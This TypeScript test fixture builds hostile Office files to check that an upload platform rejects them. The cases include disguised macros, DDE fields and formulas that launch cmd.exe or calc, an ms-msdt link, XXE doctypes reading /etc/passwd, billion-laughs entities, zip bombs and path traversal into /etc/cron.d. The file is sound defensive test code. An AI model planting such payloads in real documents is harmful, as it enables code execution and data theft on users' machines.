import { craftZip, zipOf } from '../../src/platform/documents/testing/craft-zip.ts';
import {
  para,
  relations,
  run,
  sheetPart,
  slidePart,
  wordPart,
} from '../../src/platform/extraction/testing/samples.ts';
import { compoundOf } from '../../src/platform/tabular/hostile.ts';
import type { Hostile } from './files.ts';

/* Office files that are more, or less, than documents. */

type Kind = 'docx' | 'xlsx' | 'pptx';
type Parts = Readonly<Record<string, string | Uint8Array>>;

const mains = {
  docx: ['word/document.xml', 'openxmlformats-officedocument.wordprocessingml.document.main+xml'],
  xlsx: ['xl/workbook.xml', 'openxmlformats-officedocument.spreadsheetml.sheet.main+xml'],
  pptx: ['ppt/presentation.xml', 'openxmlformats-officedocument.presentationml.presentation.main+xml'],
} as const;

const wholes: Readonly<Record<Kind, Parts>> = {
  docx: { 'word/document.xml': wordPart('document', `<w:body>${para('关于公示的通知')}</w:body>`) },
  xlsx: {
    'xl/workbook.xml':
      '<workbook xmlns="s" xmlns:r="r"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels': relations('r1 worksheet worksheets/sheet1.xml'),
    'xl/worksheets/sheet1.xml': sheetPart([
      ['A1=姓名', 'B1=金额'],
      ['A2=某甲', 'B2=1'],
    ]),
  },
  pptx: {
    'ppt/presentation.xml':
      '<p:presentation xmlns:p="p" xmlns:r="r"><p:sldIdLst><p:sldId id="256" r:id="r1"/></p:sldIdLst></p:presentation>',
    'ppt/_rels/presentation.xml.rels': relations('r1 slide slides/slide1.xml'),
    'ppt/slides/slide1.xml': slidePart('sld', ['汇报']),
  },
};

function packageParts(kind: Kind, parts: Parts, types: string): Parts {
  const [main, type] = mains[kind];
  return {
    '[Content_Types].xml': `<Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main}" ContentType="application/vnd.${type}"/>${types}</Types>`,
    '_rels/.rels': relations(`r1 officeDocument ${main}`),
    ...wholes[kind],
    ...parts,
  };
}

/** A sound file of the kind with the given parts on top. */
export const office = (kind: Kind, parts: Parts = {}, types = ''): Buffer =>
  zipOf(packageParts(kind, parts, types));

const folders: Readonly<Record<Kind, string>> = { docx: 'word', xlsx: 'xl', pptx: 'ppt' };
const relationsOf: Readonly<Record<Kind, string>> = {
  docx: 'word/_rels/document.xml.rels',
  xlsx: 'xl/worksheets/_rels/sheet1.xml.rels',
  pptx: 'ppt/slides/_rels/slide1.xml.rels',
};

const compound = (...streams: readonly string[]) =>
  compoundOf(Object.fromEntries(streams.map((name) => [name, 'x'.repeat(6_000)])));
const spaces = (mebibytes: number) => Buffer.alloc(mebibytes * 1_048_576, 32);

/** What is tried on all three kinds. */
function onEvery(kind: Kind): readonly Hostile[] {
  const name = `公示.${kind}`;
  const folder = folders[kind];
  const one = (what: string, code: string, table: string, make: () => Buffer): Hostile => ({
    what: `${kind}: ${what}`,
    name,
    code,
    table: kind === 'pptx' ? 'table-wrong-type' : table,
    make,
  });
  const relate = (line: string) => office(kind, { [relationsOf[kind]]: relations(line) });
  const main = mains[kind][0];
  return [
    one('macros', 'file-has-macros', 'table-has-macros', () =>
      office(kind, { [`${folder}/vbaProject.bin`]: 'x' }),
    ),
    one('macros under another name', 'file-has-macros', 'table-has-macros', () =>
      office(kind, {
        [`${folder}/data.bin`]: compound('VBA', 'PROJECT'),
        [relationsOf[kind]]: relations('m vbaProject data.bin'),
      }),
    ),
    one('macros as a picture', 'file-has-macros', 'table-has-macros', () =>
      office(kind, { [`${folder}/media/image1.png`]: compound('VBA', 'PROJECT') }),
    ),
    one('macros by type', 'file-has-macros', 'table-has-macros', () =>
      office(
        kind,
        {},
        `<Override PartName="/${folder}/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>`,
      ),
    ),
    one('an object', 'file-active-content', 'table-active-content', () =>
      relate('o oleObject embeddings/o.bin'),
    ),
    one('an object nobody names', 'file-active-content', 'table-active-content', () =>
      office(kind, { [`${folder}/embeddings/o.bin`]: compound('Package') }),
    ),
    one('a control', 'file-active-content', 'table-active-content', () => relate('c control activeX1.xml')),
    one('an add-in', 'file-active-content', 'table-active-content', () =>
      relate('w webextensiontaskpanes taskpanes.xml'),
    ),
    one('a program as a picture', 'file-active-content', 'table-active-content', () =>
      office(kind, { [`${folder}/media/a.png`]: 'MZ\x90\x00' }),
    ),
    one('a link that runs a program', 'file-active-content', 'table-active-content', () =>
      relate('h hyperlink !ms-msdt:/id'),
    ),
    one('a link with a script', 'file-active-content', 'table-active-content', () =>
      relate('h hyperlink !javascript:alert(1)'),
    ),
    one('a picture from elsewhere', 'file-remote-content', '', () =>
      relate('p image !http://example.org/x.png'),
    ),
    one('a target hidden in a character reference', 'file-remote-content', '', () =>
      office(kind, {
        [relationsOf[kind]]: relations('p image !http://example.org/x').replace(
          '"External"',
          '"&#69;xternal"',
        ),
      }),
    ),
    one('a document type', 'file-xml-entities', 'table-damaged', () =>
      office(kind, { [main]: '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>' }),
    ),
    one('entities that multiply', 'file-xml-entities', 'table-damaged', () =>
      office(kind, { [`${folder}/x.xml`]: laughs() }),
    ),
    one('a document type in UTF-16', 'file-xml-entities', 'table-damaged', () =>
      office(kind, { [`${folder}/x.xml`]: Buffer.from('\ufeff<!DOCTYPE x><x/>', 'utf16le') }),
    ),
    one('a document type in UTF-7', 'file-xml-entities', 'table-damaged', () =>
      office(kind, {
        [`${folder}/x.xml`]: '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>',
      }),
    ),
    one('a document type in a part by another name', 'file-xml-entities', 'table-damaged', () =>
      office(kind, { [`${folder}/x.dat`]: '<!DOCTYPE x><x/>' }),
    ),
    one('a bomb', 'file-bomb', 'table-unpacks-too-large', () => office(kind, { [main]: spaces(200) })),
    one('a bomb of many parts', 'file-bomb', 'table-unpacks-too-large', () =>
      office(
        kind,
        Object.fromEntries(Array.from({ length: 40 }, (_x, at) => [`${folder}/${at}.xml`, spaces(10)])),
      ),
    ),
    one('a bomb that lies', 'file-damaged', 'table-damaged', () =>
      craftZip(
        Object.entries(packageParts(kind, {}, '')).map(([part, data]) =>
          part === main
            ? { name: part, data: spaces(30), size: 100 }
            : { name: part, data: Buffer.from(data) },
        ),
      ),
    ),
    one('six thousand parts', 'file-bomb', 'table-unpacks-too-large', () =>
      office(
        kind,
        Object.fromEntries(Array.from({ length: 6_000 }, (_x, at) => [`${folder}/p${at}.xml`, '<x/>'])),
      ),
    ),
    one('an archive inside', 'file-nested-archive', 'table-active-content', () =>
      office(kind, { [`${folder}/media/a.bin`]: zipOf({ 'a.txt': 'x' }) }),
    ),
    one('elements nested without end', 'file-damaged', 'table-damaged', () =>
      office(kind, { [main]: '<x>'.repeat(400_000) }),
    ),
    one('a tag without end', 'file-damaged', 'table-damaged', () =>
      office(kind, { [main]: `<x a="${noise(3_000_000)}` }),
    ),
    one('elements that do not close', 'file-damaged', 'table-damaged', () =>
      office(kind, { [main]: '<a><b></a></b>' }),
    ),
    one('cut off', 'file-truncated', 'table-damaged', () => office(kind).subarray(0, -40)),
    one('locked', 'file-encrypted', 'table-encrypted', () =>
      compoundOf({ EncryptedPackage: 'x'.repeat(6_000), EncryptionInfo: 'x' }),
    ),
    one('locked as an archive', 'file-encrypted', 'table-encrypted', () =>
      craftZip(
        Object.entries(packageParts(kind, {}, '')).map(([part, data]) => ({
          name: part,
          data: Buffer.from(data),
          flags: 1,
        })),
      ),
    ),
    one('a part that climbs', 'file-unsafe-name', 'table-damaged', () =>
      office(kind, { '../../../etc/cron.d/x.xml': '<x/>' }),
    ),
    one('a part that is a symbolic link', 'file-unsafe-name', 'table-damaged', () =>
      craftZip([{ name: 'x', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
    ),
    one('a part twice', 'file-damaged', 'table-damaged', () =>
      craftZip(
        [...Object.entries(packageParts(kind, {}, '')), [main, '<x/>'] as const].map(([part, data]) => ({
          name: part,
          data: Buffer.from(data),
        })),
      ),
    ),
    one('another kind under this name', 'file-mislabelled', 'table-mislabelled', () =>
      office(kind === 'docx' ? 'xlsx' : 'docx'),
    ),
    one('plain text under this name', 'file-mislabelled', 'table-mislabelled', () =>
      Buffer.from('姓名,电话'),
    ),
  ];
}

/** Text that packs badly. */
export function noise(length: number): string {
  let state = 7;
  let text = '';
  while (text.length < length) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    text += state.toString(36);
  }
  return text.slice(0, length);
}

function laughs(): string {
  const entities = Array.from(
    { length: 9 },
    (_x, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
  ).join('');
  return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">${entities}]><x>&l9;</x>`;
}

const field = (...codes: readonly string[]) => ({
  'word/document.xml': wordPart(
    'document',
    `<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>${run('x')}</w:p></w:body>`,
  ),
});
const sheet = (formula: string) => ({
  'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row r="1"><c r="A1"><f>${formula}</f><v>0</v></c></row></sheetData></worksheet>`,
});

const word: readonly Hostile[] = [
  {
    what: 'docx: a template from elsewhere',
    name: 'a.docx',
    code: 'file-remote-content',
    table: '',
    make: () =>
      office('docx', {
        'word/_rels/settings.xml.rels': relations('t attachedTemplate !http://example.org/t.dotm'),
      }),
  },
  {
    what: 'docx: a page taken in',
    name: 'a.docx',
    code: 'file-active-content',
    table: 'table-active-content',
    make: () => office('docx', { 'word/_rels/document.xml.rels': relations('a aFChunk chunk.html') }),
  },
  {
    what: 'docx: data exchange, spread over runs',
    name: 'a.docx',
    code: 'file-active-content',
    table: 'table-active-content',
    make: () => office('docx', field('DD', 'EAUTO c:\\\\windows\\\\cmd.exe "/k x"')),
  },
  {
    what: 'docx: data exchange in one element',
    name: 'a.docx',
    code: 'file-active-content',
    table: 'table-active-content',
    make: () =>
      office('docx', {
        'word/document.xml': wordPart('document', '<w:p><w:fldSimple w:instr=" DDE cmd x "/></w:p>'),
      }),
  },
  {
    what: 'docx: another file taken in by a field',
    name: 'a.docx',
    code: 'file-remote-content',
    table: '',
    make: () => office('docx', field(' INCLUDETEXT "\\\\\\\\example.org\\\\x" ')),
  },
  {
    what: 'docx: ending of macros',
    name: 'a.docm',
    code: 'file-has-macros',
    table: 'table-has-macros',
    make: () => office('docx'),
  },
  {
    what: 'docx: old Word by its name',
    name: '旧.doc',
    code: 'file-old-format',
    table: 'table-wrong-type',
    make: () => compound('WordDocument'),
  },
  {
    what: 'docx: old Word renamed',
    name: '旧.docx',
    code: 'file-old-format',
    table: 'table-mislabelled',
    make: () => compound('WordDocument'),
  },
  {
    what: 'docx: WPS',
    name: '旧.wps',
    code: 'file-old-format',
    table: 'table-wrong-type',
    make: () => compound('WordDocument'),
  },
  {
    what: 'docx: rich text',
    name: '旧.rtf',
    code: 'file-old-format',
    table: 'table-wrong-type',
    make: () => Buffer.from('{\\rtf1 x}'),
  },
  {
    what: 'pptx: old PowerPoint',
    name: '旧.ppt',
    code: 'file-old-format',
    table: 'table-wrong-type',
    make: () => compound('PowerPoint Document'),
  },
];

const sheets: readonly Hostile[] = [
  {
    what: 'xlsx: old macros',
    name: 'a.xlsx',
    code: 'file-has-macros',
    table: 'table-has-macros',
    make: () => office('xlsx', { 'xl/macrosheets/sheet1.xml': '<x/>' }),
  },
  {
    what: 'xlsx: a program as formula',
    name: 'a.xlsx',
    code: 'file-active-content',
    table: 'table-active-content',
    make: () => office('xlsx', sheet("cmd|'/c calc'!A0")),
  },
  {
    what: 'xlsx: a call as formula',
    name: 'a.xlsx',
    code: 'file-active-content',
    table: 'table-active-content',
    make: () => office('xlsx', sheet('CALL("urlmon","x")')),
  },
  {
    what: 'xlsx: a formula that fetches',
    name: 'a.xlsx',
    code: 'file-remote-content',
    table: '',
    make: () => office('xlsx', sheet('_xlfn.WEBSERVICE("http://example.org")')),
  },
  {
    what: 'xlsx: data exchange',
    name: 'a.xlsx',
    code: 'file-active-content',
    table: 'table-active-content',
    make: () =>
      office('xlsx', {
        'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      }),
  },
  {
    what: 'xlsx: another workbook',
    name: 'a.xlsx',
    code: 'file-remote-content',
    table: '',
    make: () =>
      office('xlsx', {
        'xl/externalLinks/_rels/externalLink1.xml.rels': relations('e externalLinkPath !file:///x.xlsx'),
      }),
  },
  {
    what: 'xlsx: a data source',
    name: 'a.xlsx',
    code: 'file-remote-content',
    table: '',
    make: () =>
      office('xlsx', {
        'xl/worksheets/_rels/sheet1.xml.rels': relations('q queryTable ../queryTables/q.xml'),
      }),
  },
  {
    what: 'xlsx: old Excel',
    name: '旧.et',
    code: 'file-old-format',
    table: 'table-wrong-type',
    make: () => compound('Workbook'),
  },
  {
    what: 'xlsx: old Excel renamed',
    name: '旧.xlsx',
    code: 'file-old-format',
    table: 'table-mislabelled',
    make: () => compound('Workbook'),
  },
  {
    what: 'xlsx: binary workbook',
    name: 'a.xlsb',
    code: 'file-has-macros',
    table: 'table-has-macros',
    make: () => office('xlsx'),
  },
];

export const officeFiles: readonly Hostile[] = [
  ...onEvery('docx'),
  ...onEvery('xlsx'),
  ...onEvery('pptx'),
  ...word,
  ...sheets,
];
